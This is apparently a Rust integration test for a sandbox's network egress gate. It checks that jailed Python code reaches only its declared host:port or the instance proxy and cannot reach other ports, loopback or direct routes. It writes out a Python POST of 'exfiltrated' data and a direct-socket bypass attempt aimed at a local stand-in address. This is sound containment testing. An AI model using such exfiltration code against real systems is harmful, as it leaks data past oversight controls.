//! A jail's way out (`egress:` on a `sandbox` or launched `mcp` connector) against a real
//! bubblewrap, the real forwarder (`bulkhead jail-net`) and the server's gate: the declared
//! `host:port` is reached, through the instance's egress proxy on `proxied`; nothing else is,
//! not another port of the same host, not a name that resolves to loopback, not the host
//! without the proxy; `none` opens nothing.
//!
//! Each test runs in a network namespace of its own with only loopback (root, as in CI) and a
//! stand-in "outside" address, 198.18.99.1 (benchmarking range) on that loopback: nothing can
//! leave the machine even while a test fails.

use bulkhead::codegen::OperationBody;
use bulkhead::connectors::{self, Connectors};
use bulkhead::policy::NetworkMode;
use bulkhead::server::ToolOutput;
use bulkhead::signals::CallSignals;
use bulkhead::tooldef::{ConnectorDef, OperationDef};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// The stand-in for an address outside.
pub const OUTSIDE: &str = "198.18.99.1";

/// Runs `body` on a runtime whose threads live in a fresh network namespace holding only
/// loopback (with [`OUTSIDE`] on it). Needs root.
pub fn in_fresh_netns<F>(body: impl FnOnce() -> F + Send + 'static)
where
    F: std::future::Future<Output = ()>,
{
    assert!(
        nix::unistd::geteuid().is_root(),
        "the jail egress tests make a network namespace: run them as root (CI does)"
    );
    let t = std::thread::spawn(move || {
        // SAFETY: unshare on this thread only; it holds no sockets yet.
        let r = unsafe { nix::libc::unshare(nix::libc::CLONE_NEWNET) };
        assert_eq!(r, 0, "unshare: {}", std::io::Error::last_os_error());
        for args in [
            vec!["link", "set", "lo", "up"],
            vec!["addr", "add", &format!("{OUTSIDE}/32"), "dev", "lo"],
        ] {
            let ok = std::process::Command::new("ip")
                .args(&args)
                .status()
                .unwrap()
                .success();
            assert!(ok, "ip {args:?}");
        }
        // Every thread of the runtime is started from this one, so each is in the namespace.
        tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap()
            .block_on(body());
    });
    if let Err(e) = t.join() {
        std::panic::resume_unwind(e);
    }
}

/// An HTTP listener on [`OUTSIDE`]: answers every request `200` with `answer`, keeps what it
/// was sent, counts connections.
pub struct Outside {
    pub port: u16,
    accepted: Arc<AtomicUsize>,
    seen: Arc<std::sync::Mutex<Vec<String>>>,
}

impl Outside {
    pub async fn start(answer: &'static str) -> Outside {
        let l = tokio::net::TcpListener::bind((OUTSIDE, 0)).await.unwrap();
        let port = l.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
        let (count, kept) = (accepted.clone(), seen.clone());
        tokio::spawn(async move {
            while let Ok((mut s, _)) = l.accept().await {
                count.fetch_add(1, Ordering::SeqCst);
                let kept = kept.clone();
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 8192];
                    let mut got = Vec::new();
                    // The head and a short body arrive within a moment.
                    while let Ok(Ok(n)) = tokio::time::timeout(
                        std::time::Duration::from_millis(300),
                        s.read(&mut buf),
                    )
                    .await
                    {
                        if n == 0 {
                            break;
                        }
                        got.extend_from_slice(&buf[..n]);
                    }
                    kept.lock()
                        .unwrap()
                        .push(String::from_utf8_lossy(&got).into_owned());
                    let reply = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
                        answer.len()
                    );
                    let _ = s.write_all(reply.as_bytes()).await;
                });
            }
        });
        Outside {
            port,
            accepted,
            seen,
        }
    }

    pub fn accepted(&self) -> usize {
        self.accepted.load(Ordering::SeqCst)
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// An operation body as generated code carries it (JSON), for a definition made at run time.
fn body(b: OperationBody) -> &'static str {
    Box::leak(serde_json::to_string(&b).expect("JSON").into_boxed_str())
}

fn leak<T>(v: T) -> &'static T {
    Box::leak(Box::new(v))
}

/// A `sandbox` connector running `python3 -I -c {code}` with `egress`, its instance's proxy
/// `proxy` (as `HTTPS_PROXY` names it), and the real forwarder.
fn python(egress: &[String], proxy: Option<String>) -> Connectors {
    let settings = json!({ "egress": egress, "wall_seconds": 20, "max_runs": 4 });
    let ops = vec![OperationDef {
        name: "run",
        params_schema: r#"{"type":"object","properties":{"code":{"type":"string"}},"required":["code"]}"#,
        body: body(OperationBody::Sandbox {
            command: ["python3", "-I", "-c", "{code}"].map(String::from).to_vec(),
        }),
    }];
    let def: &'static ConnectorDef = leak(ConnectorDef {
        secrets: &[],
        name: "python",
        kind: bulkhead_vocab::connector::ConnectorKind::Sandbox,
        sensitivity: bulkhead::policy::Sensitivity::Internal,
        settings: Box::leak(settings.to_string().into_boxed_str()),
        operations: Box::leak(ops.into_boxed_slice()),
    });
    Connectors::new([def], &move |k: &str| match k {
        "BULKHEAD_JAIL_HELPER" => Some(env!("CARGO_BIN_EXE_bulkhead").to_string()),
        "HTTPS_PROXY" => proxy.clone(),
        _ => None,
    })
    .unwrap()
}

/// Runs `code` on an instance in `mode`; what it printed.
async fn run(
    c: &Connectors,
    ws: &Arc<bulkhead::workspace::SessionWorkspace>,
    mode: NetworkMode,
    code: &str,
) -> String {
    let jail = connectors::sandbox::JailContext::outside_a_call(mode);
    let args = json!({ "code": code }).as_object().cloned().unwrap();
    let out = connectors::call_in(c, "python", "run", ws, args, &jail, &CallSignals::new())
        .await
        .unwrap_or_else(|e| panic!("{mode:?}: {e:?}"));
    let v: Value = match out {
        ToolOutput::Json(v) => v,
        ToolOutput::Text(t) => serde_json::from_str(&t).unwrap(),
        other => panic!("{other:?}"),
    };
    format!(
        "{}{}",
        v["stdout"].as_str().unwrap_or(""),
        v["stderr"].as_str().unwrap_or("")
    )
}

/// A POST of `body` to `url` through whatever proxy the jail's environment names.
fn post(url: &str) -> String {
    format!(
        "import urllib.request, urllib.error\ntry:\n    r = urllib.request.urlopen(urllib.request.Request('{url}', data=b'exfiltrated'), timeout=5)\n    print('status', r.status, r.read().decode())\nexcept urllib.error.HTTPError as e:\n    print('status', e.code, e.read().decode())\nexcept Exception as e:\n    print('failed', e)\n"
    )
}

fn workspace(dir: &std::path::Path) -> Arc<bulkhead::workspace::SessionWorkspace> {
    let root = bulkhead::workspace::WorkspaceRoot::new(dir.join("ws")).unwrap();
    Arc::new(
        root.session(&bulkhead::identity::Identity::new("u", "s").unwrap())
            .unwrap(),
    )
}

/// On `full`: the declared `host:port` is reached through the gate (the request arrives as the
/// gate writes it: origin-form, its `Host`, its body); another port of the same host, a name resolving to loopback and a direct connection
/// get nothing; on `none` nothing at all.
#[test]
fn a_networked_jail_reaches_its_declared_host_and_nothing_else() {
    in_fresh_netns(|| async {
        let dir = tempfile::tempdir().unwrap();
        let ws = workspace(dir.path());
        let allowed = Outside::start("ok").await;
        let other = Outside::start("other").await;
        let loopback = super::sandbox::Listener::start().await;
        let c = python(
            &[
                format!("{OUTSIDE}:{}", allowed.port),
                format!("localhost:{}", loopback.port),
            ],
            None,
        );
        let full = NetworkMode::Full;
        let said = run(
            &c,
            &ws,
            full,
            &post(&format!("http://{OUTSIDE}:{}/hook", allowed.port)),
        )
        .await;
        assert!(said.contains("status 200 ok"), "{said}");
        assert_eq!(allowed.accepted(), 1);
        let seen = allowed.seen();
        assert!(
            seen[0].starts_with("POST /hook HTTP/1.1\r\n")
                && seen[0].contains(&format!("\r\nHost: {OUTSIDE}:{}\r\n", allowed.port))
                && seen[0].ends_with("exfiltrated"),
            "{seen:?}"
        );
        // Another port of the same host: refused by the gate, naming the list.
        let said = run(
            &c,
            &ws,
            full,
            &post(&format!("http://{OUTSIDE}:{}/", other.port)),
        )
        .await;
        assert!(
            said.contains("status 403") && said.contains("may not reach"),
            "{said}"
        );
        // A declared name that resolves to loopback: refused by the ranges.
        let said = run(
            &c,
            &ws,
            full,
            &post(&format!("http://localhost:{}/", loopback.port)),
        )
        .await;
        assert!(
            said.contains("status 403") && said.contains("loopback"),
            "{said}"
        );
        // Around the proxy: the jail's own network has no route anywhere.
        let direct = format!(
            "import socket\ntry:\n    socket.create_connection(('{OUTSIDE}', {}), timeout=3)\n    print('connected')\nexcept OSError as e:\n    print('refused', e)\n",
            allowed.port
        );
        let said = run(&c, &ws, full, &direct).await;
        assert!(said.starts_with("refused"), "{said}");
        // `none`: no gate, no proxy, nothing.
        let said = run(
            &c,
            &ws,
            NetworkMode::None,
            &post(&format!("http://{OUTSIDE}:{}/hook", allowed.port)),
        )
        .await;
        assert!(said.starts_with("failed"), "{said}");
        assert_eq!(
            allowed.accepted(),
            1,
            "a second connection reached the declared host"
        );
        assert_eq!(other.accepted(), 0, "an undeclared port was reached");
        assert_eq!(loopback.accepted(), 0, "loopback was reached");
    });
}

/// On `proxied`: the gate hands a declared request, as sent, to the instance's egress proxy
/// (which applies the deployment's allowlist); an undeclared one never reaches the proxy.
#[test]
fn a_networked_jail_on_proxied_goes_through_the_instance_proxy() {
    in_fresh_netns(|| async {
        let dir = tempfile::tempdir().unwrap();
        let ws = workspace(dir.path());
        let proxy = Outside::start("via proxy").await;
        let declared = format!("{OUTSIDE}:9443");
        let c = python(
            std::slice::from_ref(&declared),
            Some(format!("http://{OUTSIDE}:{}", proxy.port)),
        );
        let mode = NetworkMode::Proxied;
        let said = run(&c, &ws, mode, &post(&format!("http://{declared}/x"))).await;
        assert!(said.contains("status 200 via proxy"), "{said}");
        let seen = proxy.seen();
        assert!(
            seen[0].starts_with(&format!("POST http://{declared}/x")),
            "{seen:?}"
        );
        let said = run(&c, &ws, mode, &post(&format!("http://{OUTSIDE}:9444/x"))).await;
        assert!(said.contains("status 403"), "{said}");
        assert_eq!(
            proxy.accepted(),
            1,
            "an undeclared request reached the proxy"
        );
    });
}
